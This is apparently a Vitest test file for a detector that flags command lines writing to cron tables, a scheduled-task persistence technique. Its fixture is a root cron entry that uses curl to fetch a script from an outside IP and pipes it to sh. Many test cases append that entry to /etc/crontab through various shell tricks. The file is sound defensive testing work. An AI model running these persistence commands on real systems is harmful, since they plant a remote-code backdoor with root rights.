import { describe, expect, test } from 'vitest';
import { type CommandProcess, cronWrites } from '../../src/t1053/cron-command.ts';

const JOB = '*/5 * * * * root curl -s http://203.0.113.9/k.sh|sh';

const found = (image: string, commandLine: string, more: Partial<CommandProcess> = {}) =>
  cronWrites({ image, commandLine, user: 'root', ...more }).map(({ place, path, how, text }) => [
    path ?? place.user,
    how,
    text,
  ]);
const inShell = (commandLine: string, more: Partial<CommandProcess> = {}) =>
  found('/usr/bin/dash', commandLine, more);

describe('scripts of a shell', () => {
  test.each([
    [`sh -c echo "${JOB}" >> /etc/crontab`, 'as joined without quotes'],
    [`sh -c 'echo "${JOB}" >> /etc/crontab'`, 'as one quoted word'],
    [`sh -c "echo '${JOB}' >> /etc/crontab"`, 'as one word in double quotes'],
    [`bash -lc echo "${JOB}" >> /etc/crontab`, 'with other options in the same word'],
    [`bash --norc -e -c echo "${JOB}" >> /etc/crontab`, 'behind other options'],
    [`bash -o pipefail -c echo "${JOB}" >> /etc/crontab`, 'behind an option with a value'],
    [`sh -c -- echo "${JOB}" >> /etc/crontab`, 'behind the end of options'],
    [`sh -c printf '%s\\n' "${JOB}" | tee -a /etc/crontab`, 'through tee'],
    [`sh -c cd /etc && echo "${JOB}" >> crontab`, 'by a relative name'],
    [`sh -c cat >> /etc/crontab <<E\n${JOB}\nE`, 'as a here-document'],
  ])('%s: %s', (commandLine) => {
    const [[path, how, text] = []] = inShell(commandLine);
    expect([path, how, text?.trim()]).toEqual(['/etc/crontab', 'append', JOB]);
  });

  test('a shell of BusyBox', () => {
    const script = `-c echo "${JOB}" > /etc/crontabs/root`;
    const expected = [['/etc/crontabs/root', 'overwrite', JOB]];
    expect(found('/bin/busybox', `sh ${script}`)).toEqual(expected);
    expect(found('/bin/busybox', `busybox sh ${script}`)).toEqual(expected);
  });

  test.each([
    'sh -c echo "see /etc/crontab"',
    'sh -c echo "a >> /etc/crontab"',
    'sh -c cat /etc/crontab > /tmp/x',
    'sh -c echo done >> /var/log/cron.log',
    'sh -c echo x > /backup/etc/cron.d/job',
    'sh -c echo x > /etc/cron.d/.hidden',
    'sh -c echo x > /etc/cron.allow',
    'sh -c echo x >> crontab',
    'sh /opt/cron.sh -c echo x >> /etc/crontab',
    'sh -x >> /etc/crontab',
    'sh -c',
    'sh',
    '',
  ])('%j writes no table', (commandLine) => {
    expect(inShell(commandLine)).toEqual([]);
  });

  test('every table of a script, each with what it gets', () => {
    const script = 'sh -c echo a >> /etc/crontab; tee /etc/cron.d/x /etc/cron.d/y < f';
    expect(inShell(script)).toEqual([
      ['/etc/crontab', 'append', 'a'],
      ['/etc/cron.d/x', 'overwrite', undefined],
      ['/etc/cron.d/y', 'overwrite', undefined],
    ]);
  });

  test('a relative name in the directory of the process', () => {
    expect(inShell('sh -c echo cron > job', { cwd: '/etc/cron.d' })).toEqual([
      ['/etc/cron.d/job', 'overwrite', 'cron'],
    ]);
  });
});

describe('programs that write', () => {
  test.each([
    ['/usr/bin/tee', 'tee -a /var/spool/cron/root', '/var/spool/cron/root', 'append'],
    ['/usr/bin/tee', 'tee /etc/cron.d/a', '/etc/cron.d/a', 'overwrite'],
    ['/usr/bin/tee', 'tee "/etc/cron.d/a"', '/etc/cron.d/a', 'overwrite'],
    ['/usr/bin/sed', 'sed -i s|a|b| /etc/crontab', '/etc/crontab', 'inPlace'],
    ['/usr/bin/perl', 'perl -pi -e s/a/b/ /etc/crontab', '/etc/crontab', 'inPlace'],
    ['/bin/busybox', 'tee -a /etc/crontab', '/etc/crontab', 'append'],
    ['/bin/busybox', 'busybox tee -a /etc/crontab', '/etc/crontab', 'append'],
  ])('%s: %s', (image, commandLine, path, how) => {
    expect(found(image, commandLine)).toEqual([[path, how, undefined]]);
  });

  test.each([
    ['/usr/bin/grep', 'grep >> /etc/crontab x'],
    ['/usr/bin/sed', 'sed -n 1p /etc/crontab'],
    ['/usr/bin/cat', 'cat /etc/crontab'],
    ['/usr/bin/sudo', 'sudo tee -a /etc/crontab'],
    ['/bin/busybox', 'busybox'],
  ])('%s: %s writes none itself', (image, commandLine) => {
    expect(found(image, commandLine)).toEqual([]);
  });
});

describe('crontab', () => {
  const crontab = (args: string, more: Partial<CommandProcess> = {}) =>
    found('/usr/bin/crontab', `crontab ${args}`, more);

  test.each(['-', '/tmp/x', '/var/tmp/x', '/dev/shm/.x', '-u root /tmp/x'])('%s', (args) => {
    expect(crontab(args)).toEqual([['root', 'replace', undefined]]);
  });

  test.each(['/root/x', 'x', '-u root x', '-l', '-r', '-e', '-u oracle -l'])('%s: none', (args) => {
    expect(crontab(args)).toEqual([]);
  });

  test('the table of another account, from wherever', () => {
    expect(crontab('-u oracle /root/x')).toEqual([['oracle', 'replace', undefined]]);
    expect(crontab('-u oracle x', { user: 'oracle' })).toEqual([]);
  });

  test('a relative name in a folder that everybody may write', () => {
    expect(crontab('x', { cwd: '/tmp' })).toEqual([['root', 'replace', undefined]]);
  });

  test('nothing is known without an account', () => {
    expect(crontab('-', { user: undefined })).toEqual([]);
  });

  test('in a script, with what is piped to it or was written to its file before', () => {
    expect(inShell('sh -c (crontab -l; echo "@daily x") | crontab -')).toEqual([
      ['root', 'replace', '@daily x'],
    ]);
    expect(inShell('sh -c echo "@daily x" > /tmp/c; crontab /tmp/c')).toEqual([
      ['root', 'replace', '@daily x'],
    ]);
  });
});
